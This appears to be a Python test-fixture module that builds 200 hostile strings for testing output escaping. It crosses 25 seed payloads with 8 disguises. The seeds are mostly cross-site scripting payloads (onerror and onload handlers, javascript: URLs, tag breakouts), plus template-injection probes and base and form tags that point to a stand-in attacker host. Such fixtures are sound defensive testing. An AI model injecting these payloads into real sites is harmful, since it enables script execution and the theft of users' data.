"""Two hundred texts that would be code somewhere: in markup, an attribute, a script, an address, a template, in XML."""

from html import escape
from itertools import product
from typing import Final
from urllib.parse import quote

SEEDS: Final = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</script><svg onload=alert(1)>",
    "</title><body onload=alert(1)>",
    "\"><iframe src='javascript:alert(1)'>",
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "{{7*7}}{% raw 1 %}{name}${7*7}",
    "&lt;b&gt; &amp;amp; &#x3c;",
    "]]></body><code>OK</code><![CDATA[",
    "a\u2028alert(1)\u2029b",
    "\\u003cscript\\u003e",
    "👨‍👩‍👧‍👦 e\u0301 שלום ﷽",
    "<a href=data:text/html,x>x",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example>",
    "<meta http-equiv=refresh>",
    "<math><mi xlink:href=data:x>",
    "<details open ontoggle=alert(1)>",
    "<template><img src=x></template>",
    "<!--><script>alert(1)</script>",
    "__proto__ constructor toString",
    "');alert(1);//",
    "`-alert(1)-`",
)
DISGUISES: Final = (
    lambda text: text,
    lambda text: text.upper(),
    lambda text: f'">{text}',
    lambda text: f"'/>{text}",
    lambda text: escape(text)[:60],
    lambda text: quote(text)[:60],
    lambda text: text.replace("<", "＜"),
    lambda text: f"</textarea>{text}",
)
HOSTILE_TEXTS: Final = tuple(disguise(seed) for seed, disguise in product(SEEDS, DISGUISES))
